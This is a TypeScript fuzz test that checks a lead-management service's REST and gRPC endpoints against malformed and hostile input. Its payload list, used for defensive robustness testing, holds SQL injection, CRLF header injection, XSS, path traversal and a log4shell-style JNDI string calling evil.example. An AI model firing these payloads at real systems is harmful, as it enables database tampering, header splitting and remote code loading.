/**
 * Hostile input, property-based (fast-check): random and near-valid bodies, huge strings, deep
 * nesting, wrong types, unicode, SQL and header-injection strings, on the REST and gRPC create and
 * get paths, the Management API's path and query parameters and the RPC id fields. Never a 5xx, never a crash; every REST 4xx is problem+json; gRPC answers only with
 * the codes a client can act on. FUZZ_RUNS (default 1000, `make fuzz`: 20000) cases in all.
 */
import { Code, type ConnectError } from "@connectrpc/connect";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LeadWorkflowService } from "../generated/proto/leadprovider/v1/lead_workflow_service_pb.ts";
import { ProviderService } from "../generated/proto/leadprovider/v1/provider_service_pb.ts";
import { PublicLeadService } from "../generated/proto/leadprovider/v1/public_lead_service_pb.ts";
import { leadBody, startTestApp, type TestApp } from "./helpers/app.ts";
import { bearer, connectClient } from "./helpers/grpc.ts";

const RUNS = Number(process.env.FUZZ_RUNS ?? 1000);
const share = (fraction: number) => Math.max(1, Math.round(RUNS * fraction));

const NASTY = [
  "'; DROP TABLE leads; --",
  '" OR 1=1 --',
  "Robert'); DELETE FROM providers;--",
  "\r\nSet-Cookie: evil=1",
  "%0d%0aLocation: http://evil.example",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style string is the point
  "${jndi:ldap://evil.example/a}",
  "\u0000\u0001\u001f",
  "🚗🚚🛳️",
  "\u202eevil",
  "../../etc/passwd",
  "A".repeat(70_000),
];

const nasty = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: "grapheme", maxLength: 300 }),
  fc.string({ maxLength: 3000 }),
);
const anyValue = fc.oneof(
  nasty,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(nasty, { maxLength: 3 }),
);

/** Deeply nested JSON: arrays of arrays of objects … */
const deep = fc.integer({ min: 50, max: 2000 }).map((depth) => {
  let v: unknown = "bottom";
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { nested: v };
  return v;
});

/** A valid lead with some fields replaced by hostile values or removed. */
const nearValid = fc
  .record({
    replace: fc.dictionary(
      fc.constantFrom(...Object.keys(leadBody()), "vehicles", "origin_state", "unknown_field"),
      fc.oneof(anyValue, deep),
      { maxKeys: 4 },
    ),
    drop: fc.subarray(Object.keys(leadBody()), { maxLength: 3 }),
    vehicle: fc.dictionary(
      fc.constantFrom("year", "make", "model", "type", "tariff", "deposit", "vehicle_run", "x"),
      anyValue,
      {
        maxKeys: 3,
      },
    ),
  })
  .map(({ replace, drop, vehicle }) => {
    const body = leadBody() as Record<string, unknown>;
    const vehicles = body.vehicles as Record<string, unknown>[];
    vehicles[0] = { ...vehicles[0], ...vehicle };
    for (const k of drop) delete body[k];
    return { ...body, ...replace };
  });

const anyBody = fc.oneof(nearValid, fc.jsonValue(), deep, fc.object({ maxDepth: 4 }));

describe("hostile input never breaks the service", { timeout: 300_000 }, () => {
  let t: TestApp;
  let key: string;
  beforeAll(async () => {
    t = await startTestApp({ name: "pglite" }, { RATE_LIMIT_PER_MINUTE: "100000", RATE_LIMIT_PER_DAY: "10000000" });
    ({ key } = await t.provider());
  });
  afterAll(() => t.stop());

  const expectProblem = async (res: Response, context: string) => {
    expect(res.status, context).toBeLessThan(500);
    if (res.status >= 400) {
      expect(res.headers.get("content-type"), context).toContain("application/problem+json");
      const problem = (await res.json()) as { status: number; code: string };
      expect(problem.status, context).toBe(res.status);
      expect(typeof problem.code, context).toBe("string");
    } else {
      await res.arrayBuffer();
    }
  };

  it("REST create: any body gets a 2xx or a problem+json 4xx", async () => {
    await fc.assert(
      fc.asyncProperty(anyBody, async (body) => {
        const res = await t.call("POST", "/api/v1/public/leads/", { body, auth: key });
        await expectProblem(res, JSON.stringify(body).slice(0, 300));
      }),
      { numRuns: share(0.35) },
    );
  });

  it("REST get: any external_id and any X-Request-Id get a 2xx or a problem+json 4xx", async () => {
    await fc.assert(
      fc.asyncProperty(nasty, fc.string({ maxLength: 200 }), async (externalId, requestId) => {
        const safeHeader = requestId.replace(/[^\t\x20-\x7e]/g, "");
        const res = await t.call("GET", `/api/v1/public/leads/${encodeURIComponent(externalId)}/`, {
          auth: key,
          headers: { "x-request-id": safeHeader },
        });
        await expectProblem(res, externalId.slice(0, 100));
        const echoed = res.headers.get("x-request-id") ?? "";
        expect(echoed.includes("\n") || echoed.includes("\r")).toBe(false);
      }),
      { numRuns: share(0.1) },
    );
  });

  it("gRPC create and get: only INVALID_ARGUMENT, RESOURCE_EXHAUSTED, NOT_FOUND or success", async () => {
    const client = connectClient(PublicLeadService, t.port, "grpc");
    const req = fc.record(
      {
        externalId: nasty,
        firstName: nasty,
        lastName: nasty,
        email: nasty,
        phoneNumber: nasty,
        originZip: nasty,
        estimatedShipDate: nasty,
        overseasType: fc.integer({ min: -5, max: 10 }),
        shipVia: fc.integer({ min: -5, max: 10 }),
        vehicles: fc.array(
          fc.record(
            {
              year: fc.integer({ min: -2_000_000_000, max: 2_000_000_000 }),
              make: nasty,
              model: nasty,
              type: fc.integer({ min: -3, max: 20 }),
              tariff: fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }),
              deposit: fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }),
            },
            { requiredKeys: [] },
          ),
          { maxLength: 25 },
        ),
        destinationZip: nasty,
        companyName: nasty,
      },
      { requiredKeys: [] },
    );
    await fc.assert(
      fc.asyncProperty(req, async (r) => {
        const created = await client.createLead(r as never, bearer(key)).then(
          () => Code.Unknown - Code.Unknown, // success
          (e: unknown) => (e as ConnectError).code,
        );
        // RESOURCE_EXHAUSTED: a message over 64 KiB, the gRPC twin of REST's 413
        expect([0, Code.InvalidArgument, Code.ResourceExhausted]).toContain(created);
        const got = await client.getLead({ externalId: r.externalId ?? "" }, bearer(key)).then(
          () => 0,
          (e: unknown) => (e as ConnectError).code,
        );
        expect([0, Code.NotFound, Code.ResourceExhausted]).toContain(got);
      }),
      { numRuns: share(0.35) },
    );
  });

  /** Numbers as an attacker writes them: huge, negative, hex, exponent, padded, fractional. */
  const hostileNumber = fc.oneof(
    nasty,
    fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
    fc.constantFrom("0x1", "1e0", " 1", "1.0", "+1", "-0", "00000000000000000001", "9007199254740993", ""),
  );

  it("Management API: any id, page, page_size, search and is_active get a 2xx or a problem+json 4xx", async () => {
    const admin = await t.token();
    await fc.assert(
      fc.asyncProperty(
        hostileNumber,
        fc.record(
          { page: hostileNumber, page_size: hostileNumber, search: nasty, is_active: nasty },
          { requiredKeys: [] },
        ),
        async (id, query) => {
          const byId = await t.call("GET", `/api/v1/lead_providers/${encodeURIComponent(id)}/`, { auth: admin });
          await expectProblem(byId, `id ${id.slice(0, 100)}`);
          const list = await t.call("GET", `/api/v1/lead_providers/?${new URLSearchParams(query)}`, { auth: admin });
          await expectProblem(list, JSON.stringify(query).slice(0, 300));
        },
      ),
      { numRuns: share(0.1) },
    );
  });

  it("RPC id fields: any int64 gets success or a code a client can act on, never INTERNAL", async () => {
    const admin = await t.token();
    const providers = connectClient(ProviderService, t.port, "grpc");
    const workflow = connectClient(LeadWorkflowService, t.port, "grpc");
    const int64 = fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n });
    const int32 = fc.integer({ min: -(2 ** 31), max: 2 ** 31 - 1 });
    const codeOf = (p: Promise<unknown>) =>
      p.then(
        () => 0,
        (e: unknown) => (e as ConnectError).code,
      );
    // RESOURCE_EXHAUSTED: a message over 64 KiB (a 70,000-character search)
    const acceptable = [0, Code.InvalidArgument, Code.NotFound, Code.FailedPrecondition, Code.ResourceExhausted];
    await fc.assert(
      fc.asyncProperty(int64, int32, int32, nasty, async (id, page, pageSize, search) => {
        const auth = bearer(admin);
        const codes = [
          await codeOf(providers.getProvider({ id }, auth)),
          await codeOf(providers.listProviders({ page, pageSize, search }, auth)),
          await codeOf(workflow.findLead({ key: { case: "id", value: id } }, auth)),
          await codeOf(
            workflow.findLead(
              { key: { case: "providerExternalId", value: { providerId: id, externalId: search } } },
              auth,
            ),
          ),
          await codeOf(workflow.transitionLead({ leadId: id, toState: 2 }, auth)),
        ];
        for (const code of codes) expect(acceptable, `id ${id} page ${page} size ${pageSize}`).toContain(code);
      }),
      { numRuns: share(0.1) },
    );
  });
});
